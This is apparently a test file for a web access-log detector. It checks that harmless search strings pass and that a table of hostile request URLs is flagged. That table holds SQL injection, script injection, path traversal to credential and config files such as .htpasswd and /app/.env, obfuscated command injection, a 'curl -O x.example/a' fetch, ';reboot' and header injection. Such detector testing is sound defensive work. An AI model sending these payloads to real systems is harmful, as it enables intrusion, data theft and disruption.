// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a placeholder is one of a client.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { LogRecord } from '../../../../src/model/envelope.ts';
import { attacksOf } from '../../../../src/sigma/request/judged.ts';

function attacksAt(original: string): readonly string[] {
  const record: LogRecord = {
    schema: 'lp/1',
    type: 'record',
    timestamp: '2026-11-22T13:36:00.000Z',
    log: { source: 'access.log', offset: 0, format: 'combined' },
    original: '',
    url: { original },
  };
  return attacksOf(record);
}

/** What people search for, and programs report, that looks like something else. */
const values: readonly string[] = [
  'sleep(8) hours',
  'benchmark (2024)',
  '3 < 7 and 7 > 3',
  'monitor 32" >144 hz',
  'Unexpected token \'<\', "<html>" is not valid JSON',
  '<canvas> or <script> tag',
  '<script> tag explained',
  'alert(1) meaning',
  'onclick=',
  'eval() in javascript',
  'os.system(',
  'subprocess.run',
  'exec( language:go',
  '[php] array sort "mysql_query"',
  '{% if %}',
  'php://input explained',
  '/etc/group+explained',
  '~/.bashrc',
  'ls -la meaning',
  'curl -X PUT example',
  'rm -rf explained',
  'chmod 777 meaning',
  'sh -c',
  'curl; curly hair',
  'Opera/9.80 (J2ME/MIDP; Opera Mini/7.1; U; id) Presto/2.5',
  'id,name,owner{id,name}',
  '//a[@href]',
  '$_POST empty',
  '<a href="#">',
  '=COUNTIF(B:B,">7")',
  'sleep(less) in seattle',
  "array_map('trim', $a)",
  'Hi Ann; call me & bring the key',
  'Cannot redefine property: __proto__',
  'SELECT Name FROM Shop WHERE Id IN (SELECT ShopId FROM Owner)',
  'java.lang.Error: x\n\tat java.lang.Class.forName(Native Method)\n\tat java.lang.Thread.run(Thread.java:7)',
  '<Button onClick={save}>',
  '{% if contact.NAME %}',
  '{% include "menu.html" %}',
  '<svg> vs <canvas>',
  '#!/bin/bash',
  '3/8" -> 1/2"',
  'sleep(500) arduino',
  'SELECT mean("v") FROM "m" WHERE time > now() - 6h; SELECT last("w") FROM "n"',
  "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
  'data:text/plain;charset=utf-8,hello',
  'rtsp://cam.example/1',
  'a:2:{s:5:"width";s:3:"800";s:6:"height";s:3:"600";}',
];

/** Requests as a whole, by what they are. */
const requests: Readonly<Record<string, string>> = {
  'a message of several lines': '/contact?message=Hello%0D%0AFrom:+Ann%0D%0ASubject:+your+order',
  'a link that was copied with its line end': '/about%0D%0A',
  'a link with a title behind it': '/about%20%0A%20more',
  'a picture that a link leads out of the site to': '/../images/logo.png',
  'a picture whose link was written on Windows': '/shop/..%5C..%5Cimages%5Clogo.png',
  'a page that was tried on a desk': '/file:///C:/Users/ann/site/logo.png',
  'the page of a tag': '/questions/tagged/%3Cscript%3E',
  'a page about a file': '/articles/%2Fetc%2Fpasswd-explained',
  'tags that are called like a file': '/tags/.htaccess',
  'a link with the paragraph behind it': '/about.html%0D%0A%0D%0ARegards',
  'a page to go back to': '/login?return=../../list.php?page=2',
  'a picture in another folder': '/thumb?src=../img/a.png',
  'a search that was encoded twice': '/search?q=%253Cscript%253E%2Btag%2Bexplained',
  'parameters behind semicolons': '/diff/Home?rev1=1;rev2=2;type=history',
  'a condition of a map': '/rest/services/Roads/0/query?where=(1=1)+AND+(LANES+%3E+2)',
  'a filter by one of some': '/api/articles?filters[cat][id][$in][0]=1',
  'a filter that is a parameter of its own': '/recipes?not=nuts&time<30',
  // Parameters of a picture, packed by PHP and cut in pieces.
  'a picture of TYPO3': '/index.php?eID=tx_cms_showpic&parameters[0]=YTo0OntzOjU6IndpZHRoIjtzOjQ6IjkwMG0iO3M6NjoiaGVpZ2h0Ijtz',
};

/** What is near to them and an attack. */
const hostile: Readonly<Record<string, string>> = {
  '/?id=sleep(8)': 'sql',
  '/?id=benchmark(9000000,md5(1))': 'sql',
  "/?id=1'<'2": 'sql',
  '/?id=1+is+not+null+and+1=1': 'sql',
  "/?id='''''+union+select+'1": 'sql',
  '/?id=1+||+2=2': 'sql',
  '/?id=1+or+3%2B9-9=3': 'sql',
  '/?id=(select+top+1+name+from+sysobjects)': 'sql',
  '/?id=concat(0x61,0x62)': 'sql',
  '/?id=7%27%22': 'sql',
  "/?x=top['al'%2B'ert'](1)": 'script',
  '/?x=[7].map(alert)': 'script',
  "/?x=Function('x')()": 'script',
  '/?x=<button+formaction=//x.example>': 'script',
  '/?u=feed:javascript:alert(1)': 'script',
  "/?x=array_map('system',$a)": 'php',
  '/?x=7;call+shop.pay(7)': 'sql',
  '/?x=__proto__': 'expression',
  '/?x=<b+onclick={alert(1)}>': 'script',
  '/?x=java.lang.Class.forName(%22x%22)': 'expression',
  "/?x=(system)('id')": 'php',
  '/?x=%23set($x=7)$x': 'expression',
  '/?x=%25x(id)': 'expression',
  '/?u=ann)(%26)': 'query',
  '/?file=/etc/postfix/main.cf': 'traversal',
  '/?file=.htpasswd': 'traversal',
  '/?page=WEB-INF/web.xml': 'traversal',
  '/?f=/app/.env': 'traversal',
  '/?file=//192.0.2.7/x': 'address',
  '/?x=/b?n/c?t+/e?c/hosts': 'command',
  "/?x=w'h'o'am'i": 'command',
  '/?x=c%5Cat+/etc/hosts': 'command',
  '/?x=;for+i+in+a;+do+id;+done': 'command',
  '/?x=;reboot': 'command',
  '/?x=${PATH:0:1}': 'command',
  '/?x=a|sleep+5': 'command',
  '/?x=--checkpoint-action=exec=x': 'command',
  '/?x=schtasks+/create': 'command',
  '/?x=c^m^d+/c+dir': 'command',
  '/?cmd=cat+/flag': 'command',
  '/?q=<script>alert(1)': 'script',
  '/?q=x%22+onclick=x()': 'script',
  "/?q=os.system('id')": 'expression',
  '/?q={%25+if+x(1)+%25}': 'expression',
  '/?f=/etc/group': 'traversal',
  '/?f=/home/ann/.bashrc': 'traversal',
  '/?c=ls+-la': 'command',
  '/?c=rm+-rf+/tmp/x': 'command',
  '/?c=chmod+777+x.sh': 'command',
  '/?c=curl+-O+x.example/a': 'command',
  '/?c={cat,/etc/hosts}': 'command',
  '/?lang=en%0D%0ASet-Cookie:+a=b': 'header',
  '/?message=x%0D%0ASet-Cookie:+a=b': 'header',
  '/x%0d%0aX-A:%20b': 'header',
  '/..%5C..%5Cwin.ini': 'traversal',
  '/../../../../images/a.png': 'traversal',
  '/?login[$ne]=1': 'query',
  '/?x=YToxOntpOjA7Tzo0OiJFdmlsIjowOnt9fQ==': 'serialized',
  '/?x=TzoyMToiRGF0YWJhc2VEcml2ZXJNeXNxbGkiOjA6e30=': 'serialized',
};

describe('harmless requests that look like attacks', () => {
  for (const value of values) {
    it(`are no attack: ${JSON.stringify(value)}`, () => assert.deepEqual(attacksAt(`/?q=${encodeURIComponent(value)}`), []));
  }
  for (const [name, address] of Object.entries(requests)) {
    it(`are no attack: ${name}`, () => assert.deepEqual(attacksAt(address), []));
  }
  for (const [address, attack] of Object.entries(hostile)) {
    it(`are told from ${address}`, () => assert.ok(attacksAt(address).includes(attack), attacksAt(address).join()));
  }
});
